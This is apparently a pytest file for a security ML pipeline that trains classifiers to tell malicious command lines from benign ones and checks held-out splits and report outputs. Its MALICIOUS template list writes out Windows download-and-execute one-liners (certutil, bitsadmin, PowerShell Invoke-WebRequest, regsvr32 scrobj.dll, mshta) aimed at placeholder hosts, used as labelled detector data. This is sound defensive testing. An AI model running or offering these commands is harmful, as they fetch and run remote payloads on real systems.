"""The Tables 1/2 experiment on tiny command-line data: held-out binaries never leak, every arm is scored."""

from __future__ import annotations

import csv
import json

import pytest

from distilsec.errors import ConfigError
from distilsec.pipeline.sweeps.synth_config import load_synth_config
from distilsec.pipeline.sweeps.synth_tables import run_synth_tables

MALICIOUS = [
    "certutil.exe -urlcache -split -f http://{h}/a{i}.exe a{i}.exe",
    "bitsadmin /transfer job{i} /download /priority high http://{h}/b{i}.exe C:\\Users\\Public\\b{i}.exe",
    "powershell -c Invoke-WebRequest -Uri http://{h}/p{i}.ps1 -OutFile p{i}.ps1",
    "curl.exe -s -o c{i}.exe http://{h}/c{i}.exe",
    "regsvr32 /s /n /u /i:http://{h}/r{i}.sct scrobj.dll",
    "mshta http://{h}/m{i}.hta",
]
BENIGN = [
    "ls -la /home/user{i}",
    "git commit -m 'fix {i}'",
    "grep -r TODO src{i}/",
    "tar -czf backup{i}.tar.gz docs{i}",
    "python -m pip install pkg{i}",
    "docker run -it ubuntu{i} bash",
]


def _write_data(tmp_path):
    path = tmp_path / "cmds.csv"
    with open(path, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["text", "label", "group"])
        for i in range(24):
            host = f"10.0.{i}.{i + 1}"
            for j, t in enumerate(MALICIOUS):
                w.writerow([t.format(h=host, i=i), "malicious", f"m{j}-{i % 6}"])
            for j, t in enumerate(BENIGN):
                w.writerow([t.format(i=i), "benign", f"b{j}-{i % 6}"])
    return path


def _config(tmp_path, data):
    cfg = tmp_path / "synth.yaml"
    cfg.write_text(
        f"""
run: {{name: tiny-synth, seed: 0, device: cpu}}
data: {{task: table, path: {data}, text_column: text, label_column: label, group_column: group}}
curation: {{normalise: false, shortcut_audit: false}}
split: {{by: group, val_fraction: 0.2, test_fraction: 0.2}}
teacher: {{type: hashed_linear.v1, n_features: 4096, epochs: 2}}
students:
  student: {{type: hashed_linear.v1, n_features: 4096, epochs: 3}}
evaluation: {{positive: malicious, negative: benign, target_fpr: 0.05, throughput_sample: 0}}
synth:
  task: cmdline
  holdout_by: mentions
  holdout: [certutil, bitsadmin]
  judge: none
  arms:
    V1: {{seeds: all, generator: mutate, n_per_seed: 2}}
    V2: {{seeds: groups, seed_groups: [Invoke-WebRequest], generator: mutate, n_per_seed: 4}}
"""
    )
    return cfg


def test_synth_tables_tiny(tmp_path):
    cfg = load_synth_config(_config(tmp_path, _write_data(tmp_path)))
    out = tmp_path / "run"
    metrics = run_synth_tables(cfg, out=out)
    # every command naming a held-out binary left training, validation and the general test set
    assert metrics["n"]["holdout"] == 48
    assert metrics["n"]["train"] + metrics["n"]["val"] + metrics["n"]["test"] <= 24 * 12 - 48
    rows = {r["held-out attack"]: r for r in metrics["table1"]}
    assert set(rows) >= {"certutil", "bitsadmin", "**all**"}
    for name in ("production", "V1", "V2"):
        assert 0.0 <= rows["**all**"][f"{name} recall"] <= 1.0
    assert [r["model"] for r in metrics["table2"]] == ["production", "V1", "V2"]
    for arm in ("V1", "V2"):
        a = metrics["arms"][arm]
        assert a["synthetic"] > 0
        assert a["near_duplicate_share_protected"] == 0
        assert 0 <= a["synthetic_naming_holdout"] <= a["synthetic"]
        assert (out / "samples" / arm / "samples.jsonl").is_file()
        kept = [json.loads(line) for line in (out / "samples" / arm / "samples.jsonl").open()]
        assert all(k["label"] == "malicious" and k["provenance"]["seed_ids"] for k in kept)
    assert metrics["arms"]["V2"]["seeds"] < metrics["arms"]["V1"]["seeds"]
    for f in ("report.md", "metrics.json", "table1.md", "table2.md", "table1.png", "table2.png"):
        assert (out / f).is_file(), f


def test_synth_tables_needs_a_holdout(tmp_path):
    cfg = load_synth_config(_config(tmp_path, _write_data(tmp_path)), {"synth.holdout": "[]"})
    with pytest.raises(ConfigError):
        run_synth_tables(cfg, out=tmp_path / "run")


@pytest.mark.parametrize("name", ["cmdline-synth.yaml", "html-synth.yaml"])
def test_shipped_synth_configs_validate(name):
    from pathlib import Path

    from distilsec.registry import get_factory

    cfg = load_synth_config(Path(__file__).resolve().parents[3] / "configs" / name)
    assert cfg.synth.holdout and cfg.synth.arms
    assert cfg.synth.student in cfg.students and cfg.synth.judge in cfg.students
    for spec in [cfg.teacher, *cfg.students.values()]:
        get_factory(spec.type)(**spec.params)
